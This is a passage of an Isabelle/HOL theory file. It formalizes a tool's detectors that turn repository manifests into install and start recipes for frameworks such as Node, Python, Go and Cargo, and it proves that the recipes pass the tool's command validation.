(* ===== verification/Detectors.thy ===== *)
theory Detectors
  imports Recipe
begin

text \<open>
  \<open>internal/recipe/detectors.go\<close> and \<open>Detect\<close> of \<open>recipe.go\<close>: the nine detectors in their order, each
  a function from the manifest to a recipe or no match. The YAML decoder is a package outside the
  repository: it is the parameter \<open>yaml\<close>, which gives the decoded recipe or \<^const>\<open>None\<close> for an error.
\<close>

section \<open>trylive.yaml\<close>

definition detectTryliveYAML :: "(string \<Rightarrow> recipe option) \<Rightarrow> manifest \<Rightarrow> recipe option" where
  "detectTryliveYAML yaml m =
    (if TrimSpace (m_tryliveYAML m) = [] then None
     else case yaml (m_tryliveYAML m) of
            None \<Rightarrow> None
          | Some r0 \<Rightarrow>
              let r1 = (if r_kind r0 = []
                        then if r_start r0 \<noteq> [] then r0\<lparr>r_kind := KindWeb\<rparr>
                             else r0\<lparr>r_kind := KindTerminal\<rparr>
                        else r0);
                  r2 = (if r_kind r1 = KindWeb \<and> r_port r1 = 0 then r1\<lparr>r_port := 3000\<rparr> else r1)
              in Some r2)"

section \<open>Node\<close>

record nodeFramework =
  nf_dep :: string
  nf_port :: int
  nf_vite :: bool

definition nodeFrameworks :: "nodeFramework list" where
  "nodeFrameworks =
    map (\<lambda>(d, p, v). \<lparr>nf_dep = d, nf_port = p, nf_vite = v\<rparr>)
    [(''next'', 3000, False), (''nuxt'', 3000, False), (''@remix-run/dev'', 3000, False),
     (''gatsby'', 8000, False), (''astro'', 4321, True), (''@sveltejs/kit'', 5173, True),
     (''@angular/cli'', 4200, False), (''react-scripts'', 3000, False),
     (''@vue/cli-service'', 8080, False), (''vite'', 5173, True), (''express'', 3000, False),
     (''fastify'', 3000, False), (''koa'', 3000, False), (''hono'', 3000, False),
     (''@nestjs/core'', 3000, False), (''http-server'', 8080, False), (''serve'', 3000, False)]"

record pkgManager =
  pm_install :: string
  pm_runPrefix :: string
  pm_passthrough :: string

definition pm_run :: "pkgManager \<Rightarrow> string \<Rightarrow> string" where
  "pm_run p script = pm_runPrefix p @ '' '' @ script"

definition packageManager :: "string list \<Rightarrow> string \<Rightarrow> pkgManager" where
  "packageManager lockfiles fld =
    (let has = (\<lambda>name. name \<in> set lockfiles)
     in if has ''pnpm-lock.yaml'' \<or> HasPrefix fld ''pnpm''
        then \<lparr>pm_install = ''npx -y pnpm install'', pm_runPrefix = ''npx -y pnpm run'', pm_passthrough = []\<rparr>
        else if has ''yarn.lock'' \<or> HasPrefix fld ''yarn''
        then \<lparr>pm_install = ''npx -y yarn install'', pm_runPrefix = ''npx -y yarn run'', pm_passthrough = []\<rparr>
        else if has ''bun.lockb'' \<or> has ''bun.lock'' \<or> HasPrefix fld ''bun''
        then \<lparr>pm_install = ''npx -y bun install'', pm_runPrefix = ''npx -y bun run'', pm_passthrough = ''-- ''\<rparr>
        else \<lparr>pm_install = ''npm install --no-audit --no-fund'', pm_runPrefix = ''npm run'', pm_passthrough = ''-- ''\<rparr>)"

definition has_key :: "(string, 'a) gomap \<Rightarrow> string \<Rightarrow> bool" where
  "has_key m k = (map_of m k \<noteq> None)"

definition node_framework :: "packageJSON \<Rightarrow> nodeFramework option" where
  "node_framework p =
    List.find (\<lambda>fw. has_key (p_dependencies p) (nf_dep fw) \<or> has_key (p_devDependencies p) (nf_dep fw))
      nodeFrameworks"

definition node_scripts :: "string list" where
  "node_scripts = [''dev'', ''start'', ''serve'', ''preview'']"

definition detectNode :: "manifest \<Rightarrow> recipe option" where
  "detectNode m =
    (case m_packageJSON m of
       None \<Rightarrow> None
     | Some p \<Rightarrow>
         let pm = packageManager (m_lockfiles m) (p_packageManager p);
             r = no_recipe\<lparr>r_kind := KindTerminal, r_install := [pm_install pm],
                   r_env := [(''HOST'', ''0.0.0.0''), (''CI'', ''true'')]\<rparr>;
             fw = node_framework p
         in case List.find (has_key (p_scripts p)) node_scripts of
              None \<Rightarrow> Some r
            | Some script \<Rightarrow>
                let port = (case fw of None \<Rightarrow> 3000 | Some f \<Rightarrow> nf_port f);
                    start = pm_run pm script;
                    start' = (case fw of
                        None \<Rightarrow> start
                      | Some f \<Rightarrow>
                          if nf_vite f
                          then start @ '' '' @ pm_passthrough pm @ ''--host 0.0.0.0 --port '' @ Itoa port
                          else start)
                in Some (r\<lparr>r_kind := KindWeb, r_port := port,
                     r_env := map_put ''PORT'' (Itoa port) (r_env r), r_start := start'\<rparr>))"

section \<open>Python\<close>

text \<open>\<open>module\<close>: app.py is the module app.\<close>

definition py_module :: "string \<Rightarrow> string" where
  "py_module entry = TrimSuffix entry ''.py''"

record pyFramework =
  py_dep :: string
  py_port :: int
  py_start :: "string \<Rightarrow> string"
  py_env :: "(string, string) gomap"

definition pyFrameworks :: "pyFramework list" where
  "pyFrameworks =
    [\<lparr>py_dep = ''streamlit'', py_port = 8501,
      py_start = (\<lambda>e. ''streamlit run '' @ e @
        '' --server.address 0.0.0.0 --server.port 8501 --server.headless true''),
      py_env = []\<rparr>,
     \<lparr>py_dep = ''gradio'', py_port = 7860, py_start = (\<lambda>e. ''python3 '' @ e),
      py_env = [(''GRADIO_SERVER_NAME'', ''0.0.0.0''), (''GRADIO_SERVER_PORT'', ''7860'')]\<rparr>,
     \<lparr>py_dep = ''django'', py_port = 8000,
      py_start = (\<lambda>e. ''python3 manage.py runserver 0.0.0.0:8000''),
      py_env = [(''ALLOWED_HOSTS'', ''*''), (''DJANGO_ALLOWED_HOSTS'', ''*'')]\<rparr>,
     \<lparr>py_dep = ''fastapi'', py_port = 8000,
      py_start = (\<lambda>e. ''uvicorn '' @ py_module e @ '':app --host 0.0.0.0 --port 8000''),
      py_env = []\<rparr>,
     \<lparr>py_dep = ''flask'', py_port = 5000,
      py_start = (\<lambda>e. ''flask --app '' @ py_module e @ '' run --host 0.0.0.0 --port 5000''),
      py_env = []\<rparr>]"

definition pyPrefs :: "(string \<times> string list) list" where
  "pyPrefs =
    [(''streamlit'', [''streamlit_app.py'', ''app.py'', ''main.py'', ''Home.py'']),
     (''gradio'', [''app.py'', ''demo.py'', ''main.py'']),
     (''fastapi'', [''main.py'', ''app.py'', ''server.py'', ''api.py'']),
     (''flask'', [''app.py'', ''main.py'', ''server.py'', ''wsgi.py'', ''run.py'']),
     (''django'', [''manage.py''])]"

definition pyEntry :: "manifest \<Rightarrow> string \<Rightarrow> string" where
  "pyEntry m dep =
    (case List.find (\<lambda>want. want \<in> set (m_files m))
        (case map_of pyPrefs dep of None \<Rightarrow> [] | Some ws \<Rightarrow> ws) of
       None \<Rightarrow> [] | Some f \<Rightarrow> f)"

text \<open>
  The regular expression of \<open>pythonRecipe\<close>: an occurrence of the name that starts the text or a line
  or follows a quote, white space, a bracket or a comma, and that ends the text or a line or is
  followed by white space or a character that can end a name. A line break is white space, so the
  line anchors add the two ends of the text only.
\<close>

definition dep_before :: string where
  "dep_before = [CHR 0x22, CHR 0x27, CHR 0x09, CHR 0x0A, CHR 0x0C, CHR 0x0D, CHR 0x20, CHR ''['', CHR '','']"

definition dep_after :: string where
  "dep_after = [CHR 0x09, CHR 0x0A, CHR 0x0C, CHR 0x0D, CHR 0x20, CHR ''['', CHR ''<'', CHR ''>'', CHR ''='',
    CHR ''~'', CHR ''!'', CHR '';'', CHR 0x22, CHR 0x27, CHR '','']"

definition ends_here :: "string \<Rightarrow> string \<Rightarrow> bool" where
  "ends_here after s = (case s of [] \<Rightarrow> True | c # _ \<Rightarrow> c \<in> set after)"

fun dep_match :: "string \<Rightarrow> bool \<Rightarrow> string \<Rightarrow> bool" where
  "dep_match dep starts [] = (dep = [] \<and> starts)"
| "dep_match dep starts (c # s) =
    (starts \<and> HasPrefix (c # s) dep \<and> ends_here dep_after (drop (length dep) (c # s)) \<or>
     dep_match dep (c \<in> set dep_before) s)"

definition py_usable :: "manifest \<Rightarrow> string \<Rightarrow> pyFramework \<Rightarrow> bool" where
  "py_usable m lower fw \<longleftrightarrow>
    dep_match (py_dep fw) True lower \<and> \<not> (pyEntry m (py_dep fw) = [] \<and> py_dep fw \<noteq> ''django'')"

text \<open>The frameworks that do not match, or lack an entry file, are skipped; the first other one wins.\<close>

definition pythonRecipe :: "manifest \<Rightarrow> string \<Rightarrow> string \<Rightarrow> recipe option" where
  "pythonRecipe m deps install =
    (let r = no_recipe\<lparr>r_kind := KindTerminal, r_install := [install],
               r_env := [(''PYTHONUNBUFFERED'', ''1'')]\<rparr>;
         lower = ToLower deps
     in case List.find (py_usable m lower) pyFrameworks of
          None \<Rightarrow> Some r
        | Some fw \<Rightarrow>
            Some (r\<lparr>r_kind := KindWeb, r_port := py_port fw,
              r_start := py_start fw (pyEntry m (py_dep fw)),
              r_env := fold (\<lambda>(k, v). map_put k v) (py_env fw) (r_env r),
              r_install := r_install r @
                (if py_dep fw = ''django'' then [''python3 manage.py migrate --noinput''] else [])\<rparr>))"

definition detectPyProject :: "manifest \<Rightarrow> recipe option" where
  "detectPyProject m =
    (if TrimSpace (m_pyProject m) = [] then None
     else pythonRecipe m (m_pyProject m) ''pip install -e .'')"

definition detectRequirements :: "manifest \<Rightarrow> recipe option" where
  "detectRequirements m =
    (if TrimSpace (m_requirements m) = [] then None
     else pythonRecipe m (m_requirements m) ''pip install -r requirements.txt'')"

section \<open>Go, Cargo, Procfile, Makefile, static files\<close>

definition hasGoFile :: "string list \<Rightarrow> bool" where
  "hasGoFile files = list_ex (\<lambda>f. HasSuffix f ''.go'' \<and> \<not> HasSuffix f ''_test.go'') files"

definition detectGo :: "manifest \<Rightarrow> recipe option" where
  "detectGo m =
    (if TrimSpace (m_goMod m) = [] then None
     else let target =
            (case m_cmdDirs m of
               [] \<Rightarrow> ''.''
             | d # _ \<Rightarrow> if hasGoFile (m_files m) then ''.'' else ''./cmd/'' @ d)
          in Some (no_recipe\<lparr>r_kind := KindWeb, r_install := [''go mod download''],
               r_start := ''go run '' @ target, r_port := 8080,
               r_env := [(''PORT'', ''8080''), (''HOST'', ''0.0.0.0''), (''ADDR'', '':8080'')]\<rparr>))"

definition detectCargo :: "manifest \<Rightarrow> recipe option" where
  "detectCargo m =
    (if TrimSpace (m_cargoToml m) = [] then None
     else Some (no_recipe\<lparr>r_kind := KindWeb, r_install := [''cargo build''], r_start := ''cargo run'',
            r_port := 8080, r_env := [(''PORT'', ''8080''), (''HOST'', ''0.0.0.0'')]\<rparr>))"

text \<open>
  The regular expression of the Procfile, \<open>web:\<close> at the start of a line, white space, the rest of the
  line: the white space is matched as far as possible, across line breaks, and gives back bytes
  only when nothing is left for the group, which then starts at the last byte that is not a line
  break.
\<close>

definition re_space :: "char \<Rightarrow> bool" where
  "re_space c \<longleftrightarrow> c \<in> set [CHR 0x09, CHR 0x0A, CHR 0x0C, CHR 0x0D, CHR 0x20]"

definition line_rest :: "string \<Rightarrow> string" where
  "line_rest s = takeWhile (\<lambda>c. c \<noteq> CHR 0x0A) s"

definition web_group :: "string \<Rightarrow> string option" where
  "web_group s =
    (let r = dropWhile re_space s
     in if r \<noteq> [] then Some (line_rest r)
        else case dropWhile (\<lambda>c. c = CHR 0x0A) (rev s) of
               [] \<Rightarrow> None
             | c # _ \<Rightarrow> Some [c])"

fun procfile_match :: "bool \<Rightarrow> string \<Rightarrow> string option" where
  "procfile_match starts [] = None"
| "procfile_match starts (c # s) =
    (case (if starts \<and> HasPrefix (c # s) ''web:'' then web_group (drop 4 (c # s)) else None) of
       Some g \<Rightarrow> Some g
     | None \<Rightarrow> procfile_match (c = CHR 0x0A) s)"

definition detectProcfile :: "manifest \<Rightarrow> recipe option" where
  "detectProcfile m =
    (case procfile_match True (m_procfile m) of
       None \<Rightarrow> None
     | Some g \<Rightarrow>
         let start = ReplaceAll (TrimSpace g) ''$PORT'' ''8080''
         in if validateCommand start \<noteq> None then None
            else Some (no_recipe\<lparr>r_kind := KindWeb, r_start := start, r_port := 8080,
                   r_env := [(''PORT'', ''8080''), (''HOST'', ''0.0.0.0'')]\<rparr>))"

definition make_conventions :: "string list" where
  "make_conventions = [''dev'', ''serve'', ''run'', ''start'']"

definition detectMakefile :: "manifest \<Rightarrow> recipe option" where
  "detectMakefile m =
    (case List.find (\<lambda>t. t \<in> set (m_makeTargets m)) make_conventions of
       None \<Rightarrow> None
     | Some t \<Rightarrow> Some (no_recipe\<lparr>r_kind := KindWeb, r_start := ''make '' @ t, r_port := 8080,
                   r_env := [(''PORT'', ''8080''), (''HOST'', ''0.0.0.0'')]\<rparr>))"

definition detectStatic :: "manifest \<Rightarrow> recipe option" where
  "detectStatic m =
    (if \<not> m_hasIndexHTML m then None
     else Some (no_recipe\<lparr>r_kind := KindWeb,
            r_start := ''python3 -m http.server 8080 --bind 0.0.0.0'', r_port := 8080\<rparr>))"

section \<open>Detect\<close>

type_synonym detector = "string \<times> (manifest \<Rightarrow> recipe option)"

definition builtin_detectors :: "detector list" where
  "builtin_detectors =
    [(''package.json'', detectNode), (''pyproject.toml'', detectPyProject),
     (''requirements.txt'', detectRequirements), (''go.mod'', detectGo), (''Cargo.toml'', detectCargo),
     (''Procfile'', detectProcfile), (''Makefile'', detectMakefile), (''index.html'', detectStatic)]"

definition detectors :: "(string \<Rightarrow> recipe option) \<Rightarrow> detector list" where
  "detectors yaml = (''trylive.yaml'', detectTryliveYAML yaml) # builtin_detectors"

text \<open>The loop of \<open>Detect\<close>.\<close>

fun run_detectors :: "detector list \<Rightarrow> manifest \<Rightarrow> recipe result" where
  "run_detectors [] m = Inl ErrNoMatch"
| "run_detectors ((name, fn) # ds) m =
    (case fn m of
       None \<Rightarrow> run_detectors ds m
     | Some r0 \<Rightarrow>
         let r = r0\<lparr>r_detector := name\<rparr>
         in case Validate r of
              Some e \<Rightarrow> Inl (Wrapf (''detector '' @ name @ '' produced an invalid recipe'') e)
            | None \<Rightarrow> Inr r)"

definition Detect :: "(string \<Rightarrow> recipe option) \<Rightarrow> manifest \<Rightarrow> recipe result" where
  "Detect yaml m = run_detectors (detectors yaml) m"

section \<open>The detectors produce valid recipes\<close>

text \<open>The parts of a recipe a detector fills in; the name of the detector does not matter.\<close>

lemma recipe_ok_detector [simp]: "recipe_ok (r\<lparr>r_detector := d\<rparr>) = recipe_ok r"
  by (simp add: recipe_ok_def)

definition web_ok :: "string \<Rightarrow> int \<Rightarrow> bool" where
  "web_ok start port \<longleftrightarrow> start \<noteq> [] \<and> safe_command start \<and> 1 \<le> port \<and> port \<le> 65535"

lemma recipe_ok_web:
  assumes "web_ok (r_start r) (r_port r)" and "r_kind r = KindWeb" and "r_cwd r = []"
    and "length (r_install r) \<le> 8" and "list_all safe_command (r_install r)" and "list_all env_ok (r_env r)"
  shows "recipe_ok r"
proof -
  have "\<not> HasPrefix [] ''/''" "\<not> Contains [] ''..''" by code_simp+
  with assms show ?thesis by (simp add: recipe_ok_def web_ok_def)
qed

lemma recipe_ok_terminal:
  assumes "r_start r = []" and "r_kind r = KindTerminal" and "r_cwd r = []"
    and "length (r_install r) \<le> 8" and "list_all safe_command (r_install r)" and "list_all env_ok (r_env r)"
  shows "recipe_ok r"
proof -
  have "\<not> HasPrefix [] ''/''" "\<not> Contains [] ''..''" "KindTerminal \<noteq> KindWeb" by code_simp+
  with assms show ?thesis by (simp add: recipe_ok_def)
qed

subsection \<open>Node\<close>

definition pkgManagers :: "pkgManager list" where
  "pkgManagers = map (\<lambda>f. packageManager [] f) [''pnpm'', ''yarn'', ''bun'', []]"

lemma packageManager_cases: "packageManager ls f \<in> set pkgManagers"
  unfolding pkgManagers_def packageManager_def by (simp add: Let_def HasPrefix_def)

definition node_start :: "pkgManager \<Rightarrow> string \<Rightarrow> nodeFramework option \<Rightarrow> string" where
  "node_start pm script fw =
    pm_run pm script @
    (case fw of
       None \<Rightarrow> []
     | Some f \<Rightarrow>
         if nf_vite f then '' '' @ pm_passthrough pm @ ''--host 0.0.0.0 --port '' @ Itoa (nf_port f) else [])"

definition node_port :: "nodeFramework option \<Rightarrow> int" where
  "node_port fw = (case fw of None \<Rightarrow> 3000 | Some f \<Rightarrow> nf_port f)"

lemma detectNode_web:
  "m_packageJSON m = Some p \<Longrightarrow> List.find (has_key (p_scripts p)) node_scripts = Some script \<Longrightarrow>
    detectNode m = Some (no_recipe\<lparr>r_kind := KindWeb,
      r_install := [pm_install (packageManager (m_lockfiles m) (p_packageManager p))],
      r_port := node_port (node_framework p),
      r_env := [(''HOST'', ''0.0.0.0''), (''CI'', ''true''), (''PORT'', Itoa (node_port (node_framework p)))],
      r_start := node_start (packageManager (m_lockfiles m) (p_packageManager p)) script (node_framework p)\<rparr>)"
  by (simp add: detectNode_def Let_def node_start_def node_port_def split: option.split)

lemma node_install_check: "list_all (\<lambda>pm. safe_command (pm_install pm)) pkgManagers"
  by code_simp

text \<open>The start commands: only the Vite frameworks add arguments.\<close>

definition node_variants :: "nodeFramework option list" where
  "node_variants = None # map Some (filter nf_vite nodeFrameworks)"

lemma node_start_check:
  "list_all (\<lambda>pm. list_all (\<lambda>s. list_all (\<lambda>fw. node_start pm s fw \<noteq> [] \<and> safe_command (node_start pm s fw))
    node_variants) node_scripts) pkgManagers"
  by code_simp

lemma node_port_check:
  "list_all (\<lambda>f. 1 \<le> nf_port f \<and> nf_port f \<le> 65535 \<and> env_ok (''PORT'', Itoa (nf_port f))) nodeFrameworks"
  by code_simp

lemma node_env_check:
  "env_ok (''HOST'', ''0.0.0.0'')" "env_ok (''CI'', ''true'')" "env_ok (''PORT'', Itoa 3000)"
  by code_simp+

lemma find_SomeD: "List.find P xs = Some x \<Longrightarrow> x \<in> set xs \<and> P x"
  by (auto simp: find_Some_iff)

lemma node_framework_cases:
  assumes "script \<in> set node_scripts"
  shows "web_ok (node_start (packageManager ls f) script (node_framework p)) (node_port (node_framework p)) \<and>
    env_ok (''PORT'', Itoa (node_port (node_framework p)))"
proof (cases "node_framework p")
  case None
  then show ?thesis
    using assms node_start_check node_env_check packageManager_cases [of ls f]
    by (auto simp: web_ok_def node_port_def list_all_iff node_variants_def)
next
  case (Some fw)
  then have fw: "fw \<in> set nodeFrameworks" by (simp add: node_framework_def find_SomeD)
  have "node_start (packageManager ls f) script (Some fw) \<noteq> [] \<and>
      safe_command (node_start (packageManager ls f) script (Some fw))"
  proof (cases "nf_vite fw")
    case True
    with fw have "Some fw \<in> set node_variants" by (simp add: node_variants_def)
    then show ?thesis using assms node_start_check packageManager_cases [of ls f]
      unfolding list_all_iff by blast
  next
    case False
    then have "node_start (packageManager ls f) script (Some fw) = node_start (packageManager ls f) script None"
      by (simp add: node_start_def)
    moreover have "None \<in> set node_variants" by (simp add: node_variants_def)
    ultimately show ?thesis using assms node_start_check packageManager_cases [of ls f]
      unfolding list_all_iff by metis
  qed
  with Some fw node_port_check show ?thesis by (simp add: web_ok_def node_port_def list_all_iff)
qed

lemma detectNode_ok: "detectNode m = Some r \<Longrightarrow> recipe_ok r"
proof -
  assume r: "detectNode m = Some r"
  then obtain p where p: "m_packageJSON m = Some p" by (auto simp: detectNode_def split: option.splits)
  have inst: "safe_command (pm_install (packageManager (m_lockfiles m) (p_packageManager p)))"
    using node_install_check packageManager_cases by (auto simp: list_all_iff)
  show ?thesis
  proof (cases "List.find (has_key (p_scripts p)) node_scripts")
    case None
    with r p show ?thesis
      by (intro recipe_ok_terminal) (auto simp: detectNode_def Let_def no_recipe_def inst node_env_check)
  next
    case (Some script)
    then have "script \<in> set node_scripts" by (simp add: find_SomeD)
    note ok = node_framework_cases [OF this, of "m_lockfiles m" "p_packageManager p" p]
    show ?thesis
      using r unfolding detectNode_web [OF p Some]
      by (intro recipe_ok_web) (auto simp: no_recipe_def ok inst node_env_check)
  qed
qed

subsection \<open>Python\<close>

lemma py_check:
  "list_all (\<lambda>fw.
     list_all (\<lambda>e. web_ok (py_start fw e) (py_port fw))
       (case map_of pyPrefs (py_dep fw) of None \<Rightarrow> [] | Some ws \<Rightarrow> ws) \<and>
     (py_dep fw = ''django'' \<longrightarrow> web_ok (py_start fw []) (py_port fw)) \<and>
     list_all env_ok (fold (\<lambda>(k, v). map_put k v) (py_env fw) [(''PYTHONUNBUFFERED'', ''1'')])) pyFrameworks"
  by code_simp

lemma py_install_check:
  "safe_command ''pip install -e .''" "safe_command ''pip install -r requirements.txt''"
  "safe_command ''python3 manage.py migrate --noinput''" "env_ok (''PYTHONUNBUFFERED'', ''1'')"
  by code_simp+

lemma pyEntry_cases:
  "pyEntry m dep = [] \<or> pyEntry m dep \<in> set (case map_of pyPrefs dep of None \<Rightarrow> [] | Some ws \<Rightarrow> ws)"
  by (auto simp: pyEntry_def dest: find_SomeD split: option.split)

lemma pythonRecipe_ok:
  assumes "safe_command install" and r: "pythonRecipe m deps install = Some r"
  shows "recipe_ok r"
proof (cases "List.find (py_usable m (ToLower deps)) pyFrameworks")
  case None
  with assms show ?thesis
    by (intro recipe_ok_terminal) (auto simp: pythonRecipe_def Let_def no_recipe_def py_install_check)
next
  case (Some fw)
  then have fw: "fw \<in> set pyFrameworks" "py_usable m (ToLower deps) fw" by (simp_all add: find_SomeD)
  let ?e = "pyEntry m (py_dep fw)"
  have "web_ok (py_start fw ?e) (py_port fw)"
  proof (cases "?e = []")
    case True
    with fw(2) have "py_dep fw = ''django''" by (simp add: py_usable_def)
    with fw(1) py_check True show ?thesis by (auto simp: list_all_iff)
  next
    case False
    with pyEntry_cases have "?e \<in> set (case map_of pyPrefs (py_dep fw) of None \<Rightarrow> [] | Some ws \<Rightarrow> ws)"
      by metis
    with fw(1) py_check show ?thesis by (auto simp: list_all_iff)
  qed
  moreover have "list_all env_ok (fold (\<lambda>(k, v). map_put k v) (py_env fw) [(''PYTHONUNBUFFERED'', ''1'')])"
    using bspec [OF py_check [unfolded list_all_iff] fw(1)] unfolding list_all_iff by blast
  ultimately show ?thesis
    using r Some assms(1)
    by (intro recipe_ok_web) (auto simp: pythonRecipe_def Let_def no_recipe_def py_install_check)
qed

lemma detectPython_ok:
  "detectPyProject m = Some r \<Longrightarrow> recipe_ok r" "detectRequirements m = Some r \<Longrightarrow> recipe_ok r"
  using pythonRecipe_ok py_install_check
  by (auto simp: detectPyProject_def detectRequirements_def split: if_splits)

subsection \<open>The others\<close>

lemma fixed_check:
  "web_ok ''go run .'' 8080" "web_ok ''cargo run'' 8080"
  "web_ok ''python3 -m http.server 8080 --bind 0.0.0.0'' 8080"
  "list_all (\<lambda>t. web_ok (''make '' @ t) 8080) make_conventions"
  "safe_command ''go mod download''" "safe_command ''cargo build''"
  "env_ok (''PORT'', ''8080'')" "env_ok (''ADDR'', '':8080'')"
  by code_simp+

lemma detectCargo_ok: "detectCargo m = Some r \<Longrightarrow> recipe_ok r"
  by (intro recipe_ok_web)
    (auto simp: detectCargo_def no_recipe_def fixed_check node_env_check split: if_splits)

lemma detectStatic_ok: "detectStatic m = Some r \<Longrightarrow> recipe_ok r"
  by (intro recipe_ok_web) (auto simp: detectStatic_def no_recipe_def fixed_check split: if_splits)

lemma detectMakefile_ok: "detectMakefile m = Some r \<Longrightarrow> recipe_ok r"
  using fixed_check(4)
  by (intro recipe_ok_web)
    (auto simp: detectMakefile_def no_recipe_def fixed_check node_env_check list_all_iff
      split: option.splits dest!: find_SomeD)

lemma validateCommand_empty: "validateCommand [] \<noteq> None"
  by code_simp

lemma detectProcfile_ok: "detectProcfile m = Some r \<Longrightarrow> recipe_ok r"
  using validateCommand_empty
  by (intro recipe_ok_web)
    (auto simp: detectProcfile_def no_recipe_def fixed_check node_env_check web_ok_def Let_def
      validateCommand_iff split: option.splits if_splits simp flip: validateCommand_iff)

text \<open>The name of the first directory below \<open>cmd/\<close> is the repository's; it may be anything.\<close>

definition cmd_dir_ok :: "manifest \<Rightarrow> bool" where
  "cmd_dir_ok m \<longleftrightarrow>
    (case m_cmdDirs m of
       [] \<Rightarrow> True
     | d # _ \<Rightarrow> hasGoFile (m_files m) \<or> safe_command (''go run ./cmd/'' @ d))"

lemma detectGo_ok: "cmd_dir_ok m \<Longrightarrow> detectGo m = Some r \<Longrightarrow> recipe_ok r"
  using fixed_check(1)
  by (intro recipe_ok_web)
    (auto simp: detectGo_def no_recipe_def fixed_check node_env_check cmd_dir_ok_def Let_def web_ok_def
      split: list.splits if_splits)

subsection \<open>The loop\<close>

lemma run_detectors_valid:
  "run_detectors ds m = Inr r \<Longrightarrow> recipe_ok r \<and> r_detector r \<in> fst ` set ds"
  by (induction ds m rule: run_detectors.induct)
    (auto simp: Let_def Validate_recipe_ok split: option.splits)

lemma run_detectors_ok:
  "list_all (\<lambda>d. \<forall>r. snd d m = Some r \<longrightarrow> recipe_ok r) ds \<Longrightarrow>
    (\<exists>r. run_detectors ds m = Inr r \<and> recipe_ok r) \<or> run_detectors ds m = Inl ErrNoMatch"
proof (induction ds m rule: run_detectors.induct)
  case (1 m)
  then show ?case by simp
next
  case (2 name fn ds m)
  show ?case
  proof (cases "fn m")
    case None
    with 2 show ?thesis by simp
  next
    case (Some r0)
    with 2 have "recipe_ok (r0\<lparr>r_detector := name\<rparr>)" by simp
    then have "Validate (r0\<lparr>r_detector := name\<rparr>) = None" unfolding Validate_recipe_ok .
    with Some \<open>recipe_ok (r0\<lparr>r_detector := name\<rparr>)\<close> show ?thesis by (simp add: Let_def)
  qed
qed

lemma builtin_ok: "cmd_dir_ok m \<Longrightarrow> list_all (\<lambda>d. \<forall>r. snd d m = Some r \<longrightarrow> recipe_ok r) builtin_detectors"
  by (simp add: builtin_detectors_def detectNode_ok detectPython_ok detectCargo_ok detectStatic_ok
      detectMakefile_ok detectProcfile_ok detectGo_ok)

section \<open>The matchers\<close>

text \<open>\<open>dep_match\<close> is the regular expression: some occurrence, bounded on both sides.\<close>

definition dep_starts :: "bool \<Rightarrow> string \<Rightarrow> bool" where
  "dep_starts starts pre \<longleftrightarrow> (if pre = [] then starts else last pre \<in> set dep_before)"

lemma dep_match_iff:
  "dep \<noteq> [] \<Longrightarrow> dep_match dep starts s \<longleftrightarrow>
    (\<exists>pre post. s = pre @ dep @ post \<and> dep_starts starts pre \<and> ends_here dep_after post)"
proof (induction dep starts s rule: dep_match.induct)
  case (1 dep starts)
  then show ?case by simp
next
  case (2 dep starts c s)
  have here: "HasPrefix (c # s) dep \<and> ends_here dep_after (drop (length dep) (c # s)) \<longleftrightarrow>
      (\<exists>post. c # s = dep @ post \<and> ends_here dep_after post)"
    by (auto simp: HasPrefix_def prefix_def)
  have "(\<exists>pre post. c # s = pre @ dep @ post \<and> dep_starts starts pre \<and> ends_here dep_after post) \<longleftrightarrow>
      (\<exists>post. c # s = dep @ post \<and> starts \<and> ends_here dep_after post) \<or>
      (\<exists>pre post. s = pre @ dep @ post \<and> dep_starts (c \<in> set dep_before) pre \<and> ends_here dep_after post)"
    (is "?L \<longleftrightarrow> ?A \<or> ?B")
  proof
    assume ?L
    then obtain pre post where p: "c # s = pre @ dep @ post" "dep_starts starts pre" "ends_here dep_after post"
      by blast
    show "?A \<or> ?B"
    proof (cases pre)
      case Nil
      with p show ?thesis by (auto simp: dep_starts_def)
    next
      case (Cons x pre')
      with p have "s = pre' @ dep @ post" "dep_starts (c \<in> set dep_before) pre'"
        by (auto simp: dep_starts_def split: if_splits)
      with p(3) show ?thesis by blast
    qed
  next
    assume "?A \<or> ?B"
    then show ?L
    proof
      assume ?A
      then show ?L by (metis append_Nil dep_starts_def)
    next
      assume ?B
      then obtain pre post where p: "s = pre @ dep @ post" "dep_starts (c \<in> set dep_before) pre"
        "ends_here dep_after post" by blast
      then have "c # s = (c # pre) @ dep @ post" "dep_starts starts (c # pre)"
        by (auto simp: dep_starts_def split: if_splits)
      with p(3) show ?L by blast
    qed
  qed
  with 2 here show ?case by auto
qed

text \<open>A Procfile whose \<open>web\<close> line comes after lines that are not \<open>web\<close> lines.\<close>

lemma procfile_match_skip:
  assumes "CHR 0x0A \<notin> set w" and "\<not> HasPrefix w ''web:''"
  shows "procfile_match True (w @ CHR 0x0A # s) = procfile_match True s"
proof -
  have inner: "CHR 0x0A \<notin> set v \<Longrightarrow> procfile_match False (v @ CHR 0x0A # s) = procfile_match True s" for v
    by (induction v) auto
  show ?thesis
  proof (cases w)
    case Nil
    then show ?thesis by (simp add: HasPrefix_def)
  next
    case (Cons c v)
    have "\<not> prefix ''web:'' (w @ CHR 0x0A # s)"
    proof
      assume "prefix ''web:'' (w @ CHR 0x0A # s)"
      then have "prefix ''web:'' w \<or> (\<exists>us. ''web:'' = w @ us \<and> us \<noteq> [] \<and> prefix us (CHR 0x0A # s))"
        by (auto simp: prefix_append)
      with assms(2) obtain us where us: "''web:'' = w @ us" "us \<noteq> []" "prefix us (CHR 0x0A # s)"
        by (auto simp: HasPrefix_def)
      then have "CHR 0x0A \<in> set us" by (cases us) auto
      then have "CHR 0x0A \<in> set ''web:''" unfolding us(1) by simp
      then show False by simp
    qed
    then have "HasPrefix (c # v @ CHR 0x0A # s) ''web:'' = False" by (simp only: HasPrefix_def Cons append_Cons)
    moreover have "c \<noteq> CHR 0x0A" "CHR 0x0A \<notin> set v" using Cons assms(1) by auto
    ultimately show ?thesis using inner [of v] by (simp add: Cons del: prefix_Cons)
  qed
qed

lemma procfile_match_here:
  assumes "cmd \<noteq> []" and "\<not> re_space (hd cmd)" and "CHR 0x0A \<notin> set cmd" and "list_all re_space ws"
  shows "procfile_match True (''web:'' @ ws @ cmd @ CHR 0x0A # rest) = Some cmd"
proof -
  have "dropWhile re_space (ws @ cmd @ CHR 0x0A # rest) = cmd @ CHR 0x0A # rest"
    using assms by (cases cmd) (auto simp: dropWhile_append list_all_iff)
  moreover have "line_rest (cmd @ CHR 0x0A # rest) = cmd"
    using assms(3) by (auto simp: line_rest_def takeWhile_append)
  ultimately have "web_group (ws @ cmd @ CHR 0x0A # rest) = Some cmd"
    using assms(1) by (simp add: web_group_def Let_def)
